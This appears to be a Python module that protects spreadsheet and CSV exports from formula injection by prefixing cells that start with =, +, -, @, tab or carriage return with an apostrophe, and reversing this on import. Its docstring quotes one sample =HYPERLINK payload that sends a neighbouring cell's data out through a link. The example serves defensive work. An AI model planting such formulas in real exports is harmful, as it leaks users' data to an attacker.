"""Cells that a spreadsheet program will not run: the one protection every writer uses.

A text that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before one of those) is read by Excel and LibreOffice as a formula when the file
is opened: a member named ``=HYPERLINK("http://…?d="&B2,"Nguyễn Văn A")`` would send the
neighbouring cells to anyone who clicks (CSV/formula injection). Every spreadsheet and CSV the
product writes passes its cells through ``safe_cell``: such a text gets a leading apostrophe
(the usual protection: spreadsheet programs show the rest as text, never evaluate it) and is
written as text. A plain number written as text (``-5``, ``+84``) is left alone: it is no
formula. ``unprotect`` undoes it when a bundle written by ``export`` is imported again, so that
the data reads back exactly.
"""

from __future__ import annotations

import re
from typing import Any

#: The first characters that make a spreadsheet program read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def dangerous(text: str) -> bool:
    """Would a spreadsheet program read ``text`` as a formula?"""
    return bool(text) and text[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text)


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet or CSV cell: a text that would be read as a formula gets a
    leading apostrophe; any other value is returned as it is."""
    if isinstance(value, str) and value and value[0] in FORMULA_STARTS and dangerous(value):
        return "'" + value
    return value


def unprotect(text: str) -> str:
    """A cell as ``safe_cell`` wrote it, back to the text it protected."""
    if len(text) > 1 and text[0] == "'" and dangerous(text[1:]):
        return text[1:]
    return text
